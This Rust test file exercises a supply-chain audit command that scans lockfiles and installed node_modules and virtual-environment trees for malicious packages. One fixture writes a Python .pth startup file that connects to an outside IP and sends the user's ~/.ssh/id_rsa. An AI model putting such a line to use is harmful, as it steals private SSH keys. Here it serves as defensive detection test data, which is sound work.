//! End-to-end tests of `cerebro audit`: lockfiles and requirement files written as npm, pip,
//! uv and Poetry write them, pinning synthetic packages that a registry on loopback serves
//! (`tests/support`). No package manager runs and nothing reaches the network; the malicious
//! fixtures carry install code that writes a marker file if it ever runs, and every test
//! checks that it did not.
//!
//! The contract: exit 3 and the package named when a pin is judged malicious, 0 when every
//! pin is clean, 1 when one cannot be judged (a hash mismatch, a range instead of a pin);
//! `--json` gives one object per pin with the lockfile line; `--sarif` gives a log valid
//! under the SARIF 2.1.0 schema (vendored in `tests/schemas/`).

mod support;

use std::path::{Path, PathBuf};

use serde_json::{json, Value};

use support::fixtures::{self, NpmPkg, PyDist, NPM_EVIL, PY_EVIL, PY_MARKER};
use support::registry::{Fault, Registry};
use support::{run, Dirs, Outcome};

const EXIT_OK: i32 = 0;
const EXIT_UNJUDGED: i32 = 1;
const EXIT_USAGE: i32 = 2;
const EXIT_MALICIOUS: i32 = 3;

fn npm_clean() -> Vec<NpmPkg> {
    fixtures::npm_clean_tree()
}

fn registry() -> Registry {
    let mut npm = npm_clean();
    npm.push(fixtures::npm_evil());
    let mut pypi = fixtures::py_clean_tree();
    pypi.push(fixtures::py_evil());
    pypi.push(fixtures::py_marker_evil_sdist());
    Registry::with(pypi, npm)
}

/// A sandbox whose pip and npm configuration name nothing outside it.
fn sandbox() -> (Dirs, PathBuf) {
    let mut dirs = Dirs::new("audit");
    dirs.set_env("PIP_CONFIG_FILE", "/dev/null");
    let npmrc = dirs.root().join("npmrc");
    std::fs::write(&npmrc, "").unwrap();
    dirs.set_env("npm_config_userconfig", &npmrc);
    dirs.set_env("npm_config_globalconfig", &npmrc);
    let project = dirs.root().join("project");
    std::fs::create_dir_all(&project).unwrap();
    // The project's own install script would write the marker if anything ran it.
    std::fs::write(
        project.join("package.json"),
        r#"{"name": "app", "version": "1.0.0", "scripts": {"preinstall": "node -e \"require('fs').writeFileSync(process.env.CEREBRO_TEST_MARKER, 'ran')\""}}"#,
    )
    .unwrap();
    (dirs, project)
}

fn audit(dirs: &Dirs, project: &Path, args: &[&str]) -> Outcome {
    let mut cmd = dirs.cerebro(&["audit"]);
    cmd.args(args).current_dir(project);
    run(cmd)
}

/// The JSON lines of `--json`.
fn lines(out: &Outcome) -> Vec<Value> {
    out.stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}\n{out}")))
        .collect()
}

fn entry<'a>(lines: &'a [Value], name: &str) -> &'a Value {
    lines
        .iter()
        .find(|l| l["name"] == name)
        .unwrap_or_else(|| panic!("no entry for {name} in {lines:#?}"))
}

/// The 1-based line of the first line of `text` that contains `needle`.
fn line_with(text: &str, needle: &str) -> usize {
    text.lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("`{needle}` is not in\n{text}"))
        + 1
}

/// A `package-lock.json` (lockfileVersion 3) pinning `pkgs`, with `resolved` URLs or
/// without them (as npm writes it under `omit-lockfile-registry-resolved`).
fn npm_lock_v3(registry: &Registry, pkgs: &[NpmPkg], resolved: bool) -> String {
    let mut packages = serde_json::Map::new();
    packages.insert("".into(), json!({"name": "app", "version": "1.0.0"}));
    for p in pkgs {
        let mut entry = json!({"version": p.version, "integrity": p.integrity()});
        if resolved {
            entry["resolved"] = json!(format!(
                "{}{}/-/{}",
                registry.npm_url(),
                p.name,
                p.artifact.file
            ));
        }
        if !p.scripts.is_empty() {
            entry["hasInstallScript"] = json!(true);
        }
        packages.insert(format!("node_modules/{}", p.name), entry);
    }
    serde_json::to_string_pretty(&json!({
        "name": "app",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": true,
        "packages": packages,
    }))
    .unwrap()
}

fn requirement(dist: &PyDist) -> String {
    format!(
        "{}=={} \\\n    --hash=sha256:{}\n",
        dist.name,
        dist.version,
        dist.artifact.sha256_hex()
    )
}

fn assert_nothing_ran(dirs: &Dirs, out: &Outcome) {
    assert!(
        !dirs.marker_written(),
        "code of the audited project or its packages ran\n{out}"
    );
}

// ---------------------------------------------------------------------------------------------
// npm

#[test]
fn npm_lockfile_with_a_malicious_pin_exits_3_and_names_it() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    let lock = npm_lock_v3(&registry, &pkgs, true);
    std::fs::write(project.join("package-lock.json"), &lock).unwrap();

    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 5, "{out}");
    let evil = entry(&lines, NPM_EVIL.0);
    assert_eq!(evil["status"], "malicious", "{out}");
    assert_eq!(evil["version"], NPM_EVIL.1);
    assert_eq!(
        evil["source"]["line"],
        line_with(&lock, &format!("\"node_modules/{}\"", NPM_EVIL.0)),
        "{out}"
    );
    assert!(evil["files"][0]["reasons"]
        .as_array()
        .is_some_and(|r| !r.is_empty()));
    for clean in ["alpha-js", "beta-js", "gamma-js", "@acme/util"] {
        assert_eq!(entry(&lines, clean)["status"], "benign", "{clean}\n{out}");
    }
    assert_nothing_ran(&dirs, &out);

    // People get the package named, with where it is pinned.
    let human = audit(&dirs, &project, &[]);
    assert_eq!(human.code, Some(EXIT_MALICIOUS), "{human}");
    assert!(
        human.stdout.lines().any(|l| l.contains("malicious")
            && l.contains(NPM_EVIL.0)
            && l.contains("package-lock.json:")),
        "{human}"
    );
    assert!(human.stderr.contains("1 judged malicious"), "{human}");
}

#[test]
fn changed_since_judges_only_what_the_lockfile_added() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(&project)
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q"]);
    let clean = npm_clean();
    std::fs::write(
        project.join("package-lock.json"),
        npm_lock_v3(&registry, &clean, true),
    )
    .unwrap();
    git(&["add", "package-lock.json"]);
    git(&["commit", "-qm", "clean"]);
    // The pull request adds one package.
    let mut pkgs = clean;
    pkgs.push(fixtures::npm_evil());
    std::fs::write(
        project.join("package-lock.json"),
        npm_lock_v3(&registry, &pkgs, true),
    )
    .unwrap();

    let out = audit(&dirs, &project, &["--json", "--changed-since", "HEAD"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 1, "only the added pin\n{out}");
    assert_eq!(entry(&lines, NPM_EVIL.0)["status"], "malicious", "{out}");
    assert_nothing_ran(&dirs, &out);

    // Nothing added since the working tree's own state: nothing to judge, exit 0.
    git(&["add", "package-lock.json"]);
    git(&["commit", "-qm", "evil"]);
    let out = audit(&dirs, &project, &["--json", "--changed-since", "HEAD"]);
    assert_eq!(out.code, Some(EXIT_OK), "{out}");
    assert!(out.stdout.trim().is_empty(), "{out}");
    // A revision git does not know is a usage error naming it.
    let out = audit(&dirs, &project, &["--changed-since", "no-such-branch"]);
    assert_eq!(out.code, Some(EXIT_USAGE), "{out}");
    assert!(out.stderr.contains("no-such-branch"), "{out}");
}

#[test]
fn an_allowlisted_package_is_reported_but_does_not_fail_the_audit() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    std::fs::write(
        project.join("package-lock.json"),
        npm_lock_v3(&registry, &pkgs, true),
    )
    .unwrap();
    let allow = run(dirs.cerebro(&["allow", "npm", &format!("{}@{}", NPM_EVIL.0, NPM_EVIL.1)]));
    assert_eq!(allow.code, Some(0), "{allow}");

    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_OK), "{out}");
    let evil = entry(&lines(&out), NPM_EVIL.0).clone();
    assert_eq!(evil["status"], "malicious", "still judged: {out}");
    assert_eq!(evil["allowlisted"], true, "{out}");
    let human = audit(&dirs, &project, &[]);
    assert_eq!(human.code, Some(EXIT_OK), "{human}");
    assert!(
        human
            .stdout
            .lines()
            .any(|l| l.contains("allowlisted") && l.contains(NPM_EVIL.0)),
        "{human}"
    );
}

#[test]
fn npm_lockfile_without_resolved_urls_is_fetched_from_the_configured_registry() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let lock = npm_lock_v3(&registry, &npm_clean(), false);
    std::fs::write(project.join("package-lock.json"), &lock).unwrap();

    let out = audit(
        &dirs,
        &project,
        &["--json", "--registry", &registry.npm_url()],
    );
    assert_eq!(out.code, Some(EXIT_OK), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 4, "{out}");
    assert!(lines.iter().all(|l| l["status"] == "benign"), "{out}");
    let gamma = fixtures::npm_clean_tree()
        .into_iter()
        .find(|p| p.name == "gamma-js")
        .unwrap();
    assert_eq!(registry.file_hits(&gamma.artifact.file), 1);

    // A second audit takes every artifact and verdict from the cache: no download.
    let before = registry.file_hits(&gamma.artifact.file);
    let again = audit(
        &dirs,
        &project,
        &["--json", "--registry", &registry.npm_url()],
    );
    assert_eq!(again.code, Some(EXIT_OK), "{again}");
    assert_eq!(registry.file_hits(&gamma.artifact.file), before, "{again}");
}

/// A `pnpm-lock.yaml` (lockfileVersion 9.0) pinning `pkgs`, as pnpm 9 and 10 write it: no
/// tarball URLs, each package's integrity under `resolution`, scoped names quoted.
fn pnpm_lock(pkgs: &[NpmPkg]) -> String {
    let mut text = String::from(
        "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  \
         excludeLinksFromLockfile: false\n\nimporters:\n\n  .:\n    dependencies:\n",
    );
    for p in pkgs {
        text.push_str(&format!(
            "      '{}':\n        specifier: {}\n        version: {}\n",
            p.name, p.version, p.version
        ));
    }
    text.push_str("\npackages:\n\n");
    for p in pkgs {
        let key = format!("{}@{}", p.name, p.version);
        let key = if p.name.starts_with('@') {
            format!("'{key}'")
        } else {
            key
        };
        text.push_str(&format!(
            "  {key}:\n    resolution: {{integrity: {}}}\n\n",
            p.integrity()
        ));
    }
    text.push_str("snapshots:\n\n");
    for p in pkgs {
        text.push_str(&format!("  '{}@{}': {{}}\n\n", p.name, p.version));
    }
    text
}

#[test]
fn pnpm_lockfile_pins_are_judged_from_the_configured_registry() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    let lock = pnpm_lock(&pkgs);
    std::fs::write(project.join("pnpm-lock.yaml"), &lock).unwrap();

    let out = audit(
        &dirs,
        &project,
        &["--json", "--registry", &registry.npm_url()],
    );
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 5, "{out}");
    let evil = entry(&lines, NPM_EVIL.0);
    assert_eq!(evil["status"], "malicious", "{out}");
    assert_eq!(
        evil["source"]["line"],
        line_with(&lock, &format!("  {}@{}:", NPM_EVIL.0, NPM_EVIL.1)),
        "{out}"
    );
    for clean in ["alpha-js", "beta-js", "gamma-js", "@acme/util"] {
        assert_eq!(entry(&lines, clean)["status"], "benign", "{clean}\n{out}");
    }
    assert_nothing_ran(&dirs, &out);

    // A pin the lockfile resolves to a git commit cannot be judged from it: refused, named.
    let git = lock.replace(
        "  alpha-js@",
        "  other-js@1.0.0:\n    resolution: {type: git, repo: https://example.invalid/x.git, commit: abc}\n\n  alpha-js@",
    );
    std::fs::write(project.join("pnpm-lock.yaml"), &git).unwrap();
    let out = audit(
        &dirs,
        &project,
        &["--json", "--registry", &registry.npm_url()],
    );
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{out}");
    assert!(out.stdout.contains("other-js@1.0.0"), "{out}");
}

/// Audits `project`, whose lockfile pins the clean npm tree and the malicious package (its
/// entry at `evil_line`): exit 3, the malicious one named at its line, the rest benign,
/// nothing run.
fn assert_clean_tree_and_evil_pin(dirs: &Dirs, project: &Path, evil_line: usize) {
    let out = audit(dirs, project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 5, "{out}");
    let evil = entry(&lines, NPM_EVIL.0);
    assert_eq!(evil["status"], "malicious", "{out}");
    assert_eq!(evil["source"]["line"], evil_line, "{out}");
    for clean in ["alpha-js", "beta-js", "gamma-js", "@acme/util"] {
        assert_eq!(entry(&lines, clean)["status"], "benign", "{clean}\n{out}");
    }
    assert_nothing_ran(dirs, &out);
}

/// A `bun.lock` pinning `pkgs` as bun 1.2+ writes it for a registry other than npmjs: each
/// package's tarball URL and integrity (trailing commas included).
fn bun_lock(registry: &Registry, pkgs: &[NpmPkg]) -> String {
    let mut text = String::from(
        "{\n  \"lockfileVersion\": 1,\n  \"workspaces\": {\n    \"\": {\n      \"name\": \"app\",\n      \"dependencies\": {\n",
    );
    for p in pkgs {
        text.push_str(&format!("        \"{}\": \"{}\",\n", p.name, p.version));
    }
    text.push_str("      },\n    },\n  },\n  \"packages\": {\n");
    for p in pkgs {
        text.push_str(&format!(
            "    \"{}\": [\"{}@{}\", \"{}{}/-/{}\", {{}}, \"{}\"],\n\n",
            p.name,
            p.name,
            p.version,
            registry.npm_url(),
            p.name,
            p.artifact.file,
            p.integrity()
        ));
    }
    text.push_str("  }\n}\n");
    text
}

#[test]
fn bun_lockfile_pins_are_fetched_by_their_urls() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    let lock = bun_lock(&registry, &pkgs);
    std::fs::write(project.join("bun.lock"), &lock).unwrap();

    assert_clean_tree_and_evil_pin(
        &dirs,
        &project,
        line_with(&lock, &format!("\"{}@{}\"", NPM_EVIL.0, NPM_EVIL.1)),
    );
}

/// A yarn 1 `yarn.lock` pinning `pkgs` as yarn 1.22 writes it: a key line per entry
/// (quoted when scoped), `version`, `resolved` with the sha1 fragment and `integrity`.
fn yarn_lock(registry: &Registry, pkgs: &[NpmPkg]) -> String {
    let mut text = String::from(
        "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n",
    );
    for p in pkgs {
        let key = format!("{}@^{}", p.name, p.version);
        let key = if p.name.starts_with('@') {
            format!("\"{key}\"")
        } else {
            key
        };
        text.push_str(&format!(
            "\n{key}:\n  version \"{}\"\n  resolved \"{}{}/-/{}#{}\"\n  integrity {}\n",
            p.version,
            registry.npm_url(),
            p.name,
            p.artifact.file,
            "0".repeat(40),
            p.integrity()
        ));
    }
    text
}

#[test]
fn yarn_lockfile_pins_are_fetched_by_their_urls() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    let lock = yarn_lock(&registry, &pkgs);
    std::fs::write(project.join("yarn.lock"), &lock).unwrap();

    assert_clean_tree_and_evil_pin(
        &dirs,
        &project,
        line_with(&lock, &format!("{}@^", NPM_EVIL.0)),
    );

    // A git dependency cannot be judged from the lockfile: the file is named, exit 1.
    let git = format!(
        "{lock}\nfrom-git@git+https://example.invalid/x.git:\n  version \"1.0.0\"\n  resolved \"git+https://example.invalid/x.git#abc\"\n"
    );
    std::fs::write(project.join("yarn.lock"), &git).unwrap();
    let out = audit(&dirs, &project, &[]);
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{out}");
    assert!(
        out.stdout.contains("yarn.lock") && out.stdout.contains("from-git"),
        "{out}"
    );
}

#[test]
fn yarn_berry_lockfile_pins_are_fetched_from_the_configured_registry() {
    let registry = registry();
    let (dirs, project) = sandbox();
    std::fs::write(
        dirs.root().join("npmrc"),
        format!("registry={}\n", registry.npm_url()),
    )
    .unwrap();
    let mut pkgs = npm_clean();
    pkgs.push(fixtures::npm_evil());
    // As yarn 4 writes it: `__metadata`, one entry per resolution, the project itself as a
    // workspace (left out).
    let mut lock = String::from(
        "# This file is generated by running \"yarn install\" inside your project.\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"app@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"app@workspace:.\"\n  languageName: unknown\n  linkType: soft\n",
    );
    for p in &pkgs {
        lock.push_str(&format!(
            "\n\"{n}@npm:^{v}\":\n  version: {v}\n  resolution: \"{n}@npm:{v}\"\n  checksum: 10c0/{c}\n  languageName: node\n  linkType: hard\n",
            n = p.name,
            v = p.version,
            c = "0".repeat(128)
        ));
    }
    std::fs::write(project.join("yarn.lock"), &lock).unwrap();
    assert_clean_tree_and_evil_pin(
        &dirs,
        &project,
        line_with(&lock, &format!("\"{}@npm:^", NPM_EVIL.0)),
    );

    // A git resolution cannot be judged from the lockfile: that pin is unjudged, named.
    let git = format!(
        "{lock}\n\"from-git@https://example.invalid/x.git\":\n  version: 1.0.0\n  resolution: \"from-git@https://example.invalid/x.git#commit=abc\"\n  languageName: node\n  linkType: hard\n"
    );
    std::fs::write(project.join("yarn.lock"), &git).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    let all = self::lines(&out);
    assert_eq!(entry(&all, "from-git")["status"], "unjudged", "{out}");
}

#[test]
fn an_installed_node_modules_tree_is_judged_package_by_package() {
    let (dirs, project) = sandbox();
    let modules = project.join("node_modules");
    // Unpack each fixture tarball where npm would put it: the clean ones at the top, the
    // malicious one nested under a clean one (a dependency of a dependency).
    let unpack = |pkg: &NpmPkg, into: &Path| {
        std::fs::create_dir_all(into).unwrap();
        let tgz = dirs.root().join(&pkg.artifact.file);
        std::fs::write(&tgz, &pkg.artifact.bytes).unwrap();
        let status = std::process::Command::new("tar")
            .args(["xzf"])
            .arg(&tgz)
            .arg("-C")
            .arg(into)
            .arg("--strip-components=1")
            .status()
            .unwrap();
        assert!(status.success());
    };
    for pkg in npm_clean() {
        unpack(&pkg, &modules.join(&pkg.name));
    }
    let evil = fixtures::npm_evil();
    unpack(
        &evil,
        &modules.join("alpha-js/node_modules").join(&evil.name),
    );

    let out = audit(&dirs, &project, &["--json", "node_modules"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 5, "{out}");
    assert_eq!(entry(&lines, NPM_EVIL.0)["status"], "malicious", "{out}");
    assert_eq!(entry(&lines, NPM_EVIL.0)["version"], NPM_EVIL.1, "{out}");
    for clean in ["alpha-js", "beta-js", "gamma-js", "@acme/util"] {
        assert_eq!(entry(&lines, clean)["status"], "benign", "{clean}\n{out}");
    }
    assert_nothing_ran(&dirs, &out);
    // Searching the project folder still skips the installed tree.
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(
        out.code,
        Some(EXIT_USAGE),
        "no lockfile in the project\n{out}"
    );
}

#[test]
fn an_installed_virtual_environment_is_judged_distribution_by_distribution() {
    let (dirs, project) = sandbox();
    // A virtual environment as pip leaves it: each wheel unpacked into site-packages (its
    // RECORD lists its files), and a `.pth` file that no distribution owns.
    let venv = project.join(".venv");
    let site = venv.join("lib/python3.12/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    let mut dists: Vec<PyDist> = fixtures::py_clean_tree()
        .into_iter()
        .filter(|d| d.version == "1.0.0")
        .collect();
    dists.push(fixtures::py_evil());
    for d in &dists {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&d.artifact.bytes)).unwrap();
        zip.extract(&site).unwrap();
    }
    std::fs::write(
        site.join("zz-startup.pth"),
        "import os, socket; s = socket.create_connection(('45.61.1.9', 80)); s.send(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
    )
    .unwrap();

    let out = audit(&dirs, &project, &["--json", ".venv"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), dists.len() + 1, "{out}");
    assert_eq!(entry(&lines, PY_EVIL.0)["status"], "malicious", "{out}");
    for d in dists.iter().filter(|d| d.name != PY_EVIL.0) {
        assert_eq!(
            entry(&lines, &d.name)["status"],
            "benign",
            "{}\n{out}",
            d.name
        );
    }
    // The orphan .pth is judged on its own, by its file name.
    assert_ne!(entry(&lines, "zz-startup.pth")["status"], "benign", "{out}");
    assert_nothing_ran(&dirs, &out);
}

#[test]
fn npm_lockfile_v1_is_read_too() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let evil = fixtures::npm_evil();
    let alpha = npm_clean().into_iter().next().unwrap();
    let url = |p: &NpmPkg| format!("{}{}/-/{}", registry.npm_url(), p.name, p.artifact.file);
    let lock = serde_json::to_string_pretty(&json!({
        "name": "app",
        "version": "1.0.0",
        "lockfileVersion": 1,
        "requires": true,
        "dependencies": {
            alpha.name.clone(): {
                "version": alpha.version,
                "resolved": url(&alpha),
                "integrity": alpha.integrity(),
                "dependencies": {
                    evil.name.clone(): {
                        "version": evil.version,
                        "resolved": url(&evil),
                        "integrity": evil.integrity(),
                    }
                }
            }
        }
    }))
    .unwrap();
    std::fs::write(project.join("npm-shrinkwrap.json"), &lock).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(entry(&lines, NPM_EVIL.0)["status"], "malicious", "{out}");
    assert_eq!(
        entry(&lines, NPM_EVIL.0)["source"]["line"],
        line_with(&lock, &format!("\"{}\": {{", NPM_EVIL.0))
    );
    assert_eq!(entry(&lines, &alpha.name)["status"], "benign", "{out}");
    assert_nothing_ran(&dirs, &out);
}

#[test]
fn npm_tarball_that_does_not_match_the_lockfile_cannot_be_judged() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let pkgs = npm_clean();
    let beta = pkgs.iter().find(|p| p.name == "beta-js").unwrap().clone();
    registry.fault(
        &beta.artifact.file,
        Fault::Substitute(fixtures::npm_tampered(&beta)),
    );
    std::fs::write(
        project.join("package-lock.json"),
        npm_lock_v3(&registry, &pkgs, true),
    )
    .unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{out}");
    let lines = lines(&out);
    let entry = entry(&lines, "beta-js");
    assert_eq!(entry["status"], "unjudged", "{out}");
    assert!(
        entry["files"][0]["error"]
            .as_str()
            .is_some_and(|e| e.contains("hash mismatch")),
        "{out}"
    );
    assert_eq!(
        lines.iter().filter(|l| l["status"] == "benign").count(),
        3,
        "{out}"
    );
}

// ---------------------------------------------------------------------------------------------
// pip requirement files

#[test]
fn requirements_with_a_malicious_pin_exit_3_and_clean_ones_0() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let clean = fixtures::py_clean_tree();
    let mut text = format!("--index-url {}\n", registry.pypi_url());
    for dist in clean.iter().filter(|d| d.version == "1.0.0") {
        text.push_str(&requirement(dist));
    }
    std::fs::write(project.join("requirements.txt"), &text).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_OK), "{out}");
    assert_eq!(lines(&out).len(), 3, "{out}");

    let marker = fixtures::py_marker_evil_sdist();
    text.push_str(&requirement(&fixtures::py_evil()));
    text.push_str(&format!("{}=={}\n", marker.name, marker.version));
    std::fs::write(project.join("requirements.txt"), &text).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    let evil = entry(&lines, PY_EVIL.0);
    assert_eq!(evil["status"], "malicious", "{out}");
    assert_eq!(
        evil["source"]["line"],
        line_with(&text, &format!("{}==", PY_EVIL.0))
    );
    assert_eq!(entry(&lines, PY_MARKER.0)["status"], "malicious", "{out}");
    assert_nothing_ran(&dirs, &out);
}

#[test]
fn requirements_that_cannot_be_judged_exit_1() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let alpha = fixtures::py_clean_tree().into_iter().next().unwrap();
    // A hash no file of the release has, and a range instead of a pin.
    let text = format!(
        "{}=={} --hash=sha256:{}\nbeta-lib>=1.0\n",
        alpha.name,
        alpha.version,
        "0".repeat(64)
    );
    std::fs::write(project.join("requirements.txt"), &text).unwrap();
    let out = audit(
        &dirs,
        &project,
        &["--json", "--index-url", &registry.pypi_url()],
    );
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{out}");
    let lines = lines(&out);
    let alpha_entry = entry(&lines, &alpha.name);
    assert_eq!(alpha_entry["status"], "unjudged", "{out}");
    assert!(alpha_entry["files"][0]["error"]
        .as_str()
        .is_some_and(|e| e.contains("hash mismatch")));
    let beta = entry(&lines, "beta-lib");
    assert_eq!(beta["status"], "unjudged", "{out}");
    assert!(beta["files"][0]["error"]
        .as_str()
        .is_some_and(|e| e.contains("not pinned")));
    assert_eq!(beta["source"]["line"], 2);
}

// ---------------------------------------------------------------------------------------------
// uv and Poetry

fn file_url(registry: &Registry, dist: &PyDist) -> String {
    format!("{}/files/{}", registry.base(), dist.artifact.file)
}

#[test]
fn uv_lock_pins_are_fetched_by_their_urls() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut text = String::from(
        "version = 1\nrequires-python = \">=3.8\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n",
    );
    let mut dists: Vec<PyDist> = fixtures::py_clean_tree()
        .into_iter()
        .filter(|d| d.version == "1.0.0")
        .collect();
    dists.push(fixtures::py_evil());
    for d in &dists {
        text.push_str(&format!(
            "\n[[package]]\nname = \"{}\"\nversion = \"{}\"\nsource = {{ registry = \"{}\" }}\nwheels = [\n    {{ url = \"{}\", hash = \"sha256:{}\", size = {} }},\n]\n",
            d.name,
            d.version,
            registry.pypi_url(),
            file_url(&registry, d),
            d.artifact.sha256_hex(),
            d.artifact.bytes.len()
        ));
    }
    std::fs::write(project.join("uv.lock"), &text).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), 4, "the project itself is not a pin\n{out}");
    let evil = entry(&lines, PY_EVIL.0);
    assert_eq!(evil["status"], "malicious");
    assert_eq!(
        evil["source"]["line"],
        line_with(&text, &format!("name = \"{}\"", PY_EVIL.0)) - 1
    );
    assert_eq!(
        lines.iter().filter(|l| l["status"] == "benign").count(),
        3,
        "{out}"
    );
}

#[test]
fn pylock_toml_pins_are_fetched_by_url_or_found_on_the_index_by_hash() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut text = String::from(
        "lock-version = \"1.0\"\ncreated-by = \"test\"\nrequires-python = \">=3.8\"\n",
    );
    let mut dists: Vec<PyDist> = fixtures::py_clean_tree()
        .into_iter()
        .filter(|d| d.version == "1.0.0")
        .collect();
    dists.push(fixtures::py_evil());
    for (i, d) in dists.iter().enumerate() {
        // Every other file is named without its URL: found on the package's index by hash.
        let url = if i % 2 == 0 {
            format!("url = \"{}\", ", file_url(&registry, d))
        } else {
            String::new()
        };
        text.push_str(&format!(
            "\n[[packages]]\nname = \"{}\"\nversion = \"{}\"\nindex = \"{}\"\nmarker = \"python_version >= '3.8'\"\nwheels = [\n    {{ name = \"{}\", {url}size = {}, hashes = {{ sha256 = \"{}\" }} }},\n]\n",
            d.name,
            d.version,
            registry.pypi_url(),
            d.artifact.file,
            d.artifact.bytes.len(),
            d.artifact.sha256_hex(),
        ));
    }
    std::fs::write(project.join("pylock.toml"), &text).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    let lines = lines(&out);
    assert_eq!(lines.len(), dists.len(), "{out}");
    let evil = entry(&lines, PY_EVIL.0);
    assert_eq!(evil["status"], "malicious", "{out}");
    assert_eq!(
        evil["source"]["line"],
        line_with(&text, &format!("name = \"{}\"", PY_EVIL.0)) - 1
    );
    assert_eq!(
        lines.iter().filter(|l| l["status"] == "benign").count(),
        dists.len() - 1,
        "{out}"
    );

    // A version-control source cannot be judged from the file: exit 1, named.
    let vcs = format!(
        "{text}\n[[packages]]\nname = \"from-git\"\nvcs = {{ type = \"git\", url = \"https://example.invalid/x.git\", commit-id = \"abc\" }}\n"
    );
    std::fs::write(project.join("pylock.toml"), &vcs).unwrap();
    let out = audit(&dirs, &project, &["--json"]);
    assert_eq!(
        out.code,
        Some(EXIT_MALICIOUS),
        "the malicious pin still counts first\n{out}"
    );
    let all = self::lines(&out);
    assert_eq!(entry(&all, "from-git")["status"], "unjudged", "{out}");
    assert_nothing_ran(&dirs, &out);
}

#[test]
fn poetry_lock_pins_are_found_on_the_index_by_hash() {
    let registry = registry();
    let (dirs, project) = sandbox();
    let mut dists: Vec<PyDist> = fixtures::py_clean_tree()
        .into_iter()
        .filter(|d| d.version == "1.0.0")
        .collect();
    let clean_only = dists.len();
    dists.push(fixtures::py_evil());
    let write = |dists: &[PyDist]| {
        let mut text = String::from("# This file is automatically @generated by Poetry 1.8.3\n");
        for d in dists {
            text.push_str(&format!(
                "\n[[package]]\nname = \"{}\"\nversion = \"{}\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = [\n    {{file = \"{}\", hash = \"sha256:{}\"}},\n]\n",
                d.name,
                d.version,
                d.artifact.file,
                d.artifact.sha256_hex()
            ));
        }
        std::fs::write(project.join("poetry.lock"), &text).unwrap();
    };
    write(&dists[..clean_only]);
    let args = ["--json", "--index-url", &registry.pypi_url()];
    let out = audit(&dirs, &project, &args);
    assert_eq!(out.code, Some(EXIT_OK), "{out}");
    write(&dists);
    let out = audit(&dirs, &project, &args);
    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
    assert_eq!(entry(&lines(&out), PY_EVIL.0)["status"], "malicious");
}

// ---------------------------------------------------------------------------------------------
// SARIF, usage

#[test]
